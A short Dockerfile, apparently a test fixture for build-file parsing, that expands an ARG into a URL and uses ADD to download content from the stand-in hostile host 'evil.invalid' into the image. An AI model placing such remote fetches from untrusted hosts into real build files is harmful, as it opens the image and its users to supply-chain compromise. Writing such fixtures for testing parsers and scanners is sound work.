ARG SCHEME=https
FROM registry.invalid/base@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
ARG SCHEME
ENV URL=$SCHEME://evil.invalid/x
ADD a ${URL} /x/
